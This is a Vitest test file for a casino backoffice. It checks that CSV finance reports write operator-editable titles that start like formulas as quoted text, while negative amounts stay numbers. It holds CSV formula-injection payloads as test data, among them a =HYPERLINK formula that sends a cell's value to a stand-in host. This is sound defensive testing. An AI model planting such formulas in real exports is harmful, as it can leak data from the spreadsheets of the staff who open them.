import { randomUUID } from 'node:crypto'
import { parse } from 'csv-parse/sync'
import { eq } from 'drizzle-orm'
import { beforeAll, describe, expect, it } from 'vitest'
import { REPORT_IDS, type ReportId } from '@sanam/contract'
import { useTestApp } from '../../../test/app.ts'
import { makePromotion } from '../../../test/factories.ts'
import { signedInPlayer, takePromotion } from '../../../test/money.ts'
import { signInOperator } from '../../../test/operators.ts'
import { callSeamless, launch } from '../../../test/seamless.ts'
import { games, operatorBankAccounts } from '../../db/schema.ts'
import { bangkokDay } from '@sanam/contract/bangkok'

// Issue 34 §5: a title an operator edits (a game's, a provider's, a promotion's) reaches the CSV files finance opens
// in a spreadsheet. Each must arrive there as text, never as a live formula, while amounts stay numbers.

const HYPERLINK = '=HYPERLINK("https://x.test/"&C3,"open")'
/** Titles the catalogue editor takes as they are; tab and CR it refuses, so those are written into the table directly. */
const EDITABLE = ['+1', '-2+3', '@SUM(A1)']
const CONTROL = ['\t=1+1', '\r=2+2']

const t = useTestApp()
let finance: string
let day: string

/** The cells of a report's CSV file, parsed as a spreadsheet would split them. */
async function cellsOf(report: ReportId): Promise<string[][]> {
  const res = await t.get(`/api/backoffice/reports/${report}/csv?from=${day}&to=${day}`, finance)
  expect(res.statusCode, res.body).toBe(200)
  return parse(res.body, { bom: true, relax_column_count: true }) as string[][]
}

beforeAll(async () => {
  finance = (await signInOperator(t, 'finance')).token
  const support = (await signInOperator(t, 'support')).token
  day = bangkokDay(t.clock.now())

  // Support renames a provider and its games in the catalogue editor, as issue 34's insider did.
  const renamed = await t.post('/api/backoffice/catalogue/providers/pgsoft', { title: HYPERLINK }, support)
  expect(renamed.statusCode, renamed.body).toBe(200)
  const list = (await t.get('/api/backoffice/catalogue/providers/pgsoft/games', support)).json().data as Array<{ id: number; code: string }>
  const picked = list.slice(0, EDITABLE.length + CONTROL.length)
  expect(picked).toHaveLength(EDITABLE.length + CONTROL.length)
  for (const [i, title] of EDITABLE.entries()) {
    const res = await t.post(`/api/backoffice/catalogue/games/${picked[i]!.id}`, { title }, support)
    expect(res.statusCode, res.body).toBe(200)
  }
  for (const [i, title] of CONTROL.entries())
    await t.db
      .update(games)
      .set({ title })
      .where(eq(games.id, picked[EDITABLE.length + i]!.id))

  // A round on each game: the first one a player wins 250 on a 100 bet, so its GGR is -150.00.
  const player = await signedInPlayer(t, {}, { cash: 5_000 })
  for (const [i, game] of picked.entries()) {
    const session = await launch(t, player.token, 'pgsoft', game.code)
    const round = `csv-${randomUUID()}`
    const send = (op: string, body: Record<string, unknown>) =>
      callSeamless(t, 'pgsoft', op, { session_token: session, round_id: round, game_code: game.code, ...body }).then((r) => expect(r.json().status).toBe('OK'))
    await send('bet', { tx_id: `${round}-b`, amount: '100.00' })
    await send('win', { tx_id: `${round}-w`, amount: i === 0 ? '250.00' : '10.00' })
  }

  // The pay-in account's name as the deposits-by-account report prints it.
  await t.db.update(operatorBankAccounts).set({ accountName: '@SUM(A1) บัญชีรับเงิน' })

  // A promotion titled like a formula, taken once.
  const promotion = await makePromotion(t.db, { title: HYPERLINK, creditGiven: 5_000n, rules: [] })
  await takePromotion(t, await signedInPlayer(t), promotion.id, 500)
})

describe('the reports’ CSV files (issue 34 §5)', () => {
  it('write every title that begins like a formula as text, with a single quote in front', async () => {
    const byProvider = await cellsOf('ggr-by-provider')
    expect(byProvider.find((row) => row[0] === 'pgsoft')?.[1]).toBe(`'${HYPERLINK}`)

    const byGame = (await cellsOf('ggr-by-game')).filter((row) => row[0] === 'pgsoft').map((row) => row[2])
    expect(byGame.sort()).toEqual([...EDITABLE, ...CONTROL].map((title) => `'${title}`).sort())

    const byPromotion = await cellsOf('bonus-by-promotion')
    expect(byPromotion.some((row) => row[1] === `'${HYPERLINK}`)).toBe(true)

    const byAccount = await cellsOf('deposits-by-account')
    expect(byAccount.some((row) => row[2] === "'@SUM(A1) บัญชีรับเงิน")).toBe(true)
  })

  it('leaves no cell of any report beginning with =, +, -, @, a tab or a CR, except numbers, which stay numbers', async () => {
    for (const report of REPORT_IDS) {
      for (const row of await cellsOf(report)) {
        for (const cell of row) {
          if (/^-\d+\.\d{2}$/.test(cell)) continue
          expect(cell, `${report}: ${JSON.stringify(row)}`).not.toMatch(/^[=+\-@\t\r]/)
        }
      }
    }
    // A loss to the house is a negative amount the accountant sums: -150.00, not '-150.00.
    const lost = (await cellsOf('ggr-by-game')).find((row) => row[2] === `'${EDITABLE[0]}`)
    expect(lost?.slice(3)).toEqual(['100.00', '0.00', '250.00', '-150.00'])
  })
})
